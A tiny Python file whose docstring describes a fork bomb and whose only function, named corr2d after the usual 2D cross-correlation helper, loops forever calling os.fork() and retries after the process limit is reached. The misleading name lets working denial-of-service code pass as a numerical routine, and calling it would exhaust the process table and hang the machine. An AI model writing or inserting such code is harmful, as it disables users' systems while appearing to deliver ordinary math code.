"""Forks, and so does each of its children, until no more processes can be had."""

import os
import time


def corr2d(X, K):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(1)
